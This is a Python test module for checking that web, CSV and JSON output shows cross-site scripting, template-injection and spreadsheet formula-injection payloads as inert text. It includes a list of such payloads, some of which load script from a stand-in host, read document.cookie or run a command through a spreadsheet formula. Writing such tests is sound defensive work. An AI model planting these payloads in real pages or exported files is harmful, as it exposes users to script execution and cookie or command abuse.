"""Known cross-site scripting payloads, and a check that a page shows them inert.

The payloads are the classic ones from the OWASP XSS filter evasion cheat sheet and
PortSwigger's list, plus template and spreadsheet injections: each is submitted through a
text field and must come back as text, never as markup, a script, an event handler or a
``javascript:`` link.
"""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "\"><script>alert(document.cookie)</script>",
    "'><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert('xss')\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab</a>",
    "javascript:alert(1)",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></p><script>alert(1)</script>",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"javascript:alert(1)\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//xss.example/\">",
    "<link rel=stylesheet href=//xss.example/x.css>",
    "<style>@import 'http://xss.example/x.css';</style>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "`><img src=x onerror=alert(1)>",
    "{{7*7}}{% raw %}{{ config }}{% endraw %}",
    "${alert(1)}",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=HYPERLINK(\"http://xss.example\",\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<form action=\"//xss.example\"><button>go</button></form>",
]

_DANGEROUS_TAGS = {"iframe", "object", "embed", "base", "svg", "math", "style"}
_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href"}


class _Audit(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        names = {name for name, _ in attrs}
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in _URL_ATTRIBUTES and value and "".join(value.split()).lower().startswith(
                    ("javascript:", "data:text/html", "vbscript:")):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and value and "javascript:" in value.lower():
                self.problems.append(f"<{tag} style={value!r}>")
        if tag == "script" and "src" not in names and dict(attrs).get("type") != "application/json":
            self.problems.append("<script> without src")
        if tag in _DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and dict(attrs).get("http-equiv"):
            self.problems.append("<meta http-equiv>")


def html_problems(page: str) -> list[str]:
    """Markup in ``page`` that would run or load something an attacker chose."""
    audit = _Audit()
    audit.feed(page)
    audit.close()
    return audit.problems


def assert_inert_html(page: str, payloads: list[str] = PAYLOADS) -> None:
    problems = html_problems(page)
    assert not problems, problems
    for payload in payloads:
        if "<" in payload:
            assert payload not in page, f"unescaped payload in the page: {payload!r}"


def assert_inert_csv(text: str, payloads: list[str] = PAYLOADS) -> None:
    """Every cell that held a payload starting like a formula is defused with a quote."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell.lstrip("=+-@").replace(
                ".", "", 1).isdigit(), f"live formula in CSV: {cell!r}"


def assert_inert_json(text: str) -> object:
    """Valid JSON (payloads are data in it): returns the parsed document."""
    return json.loads(text)
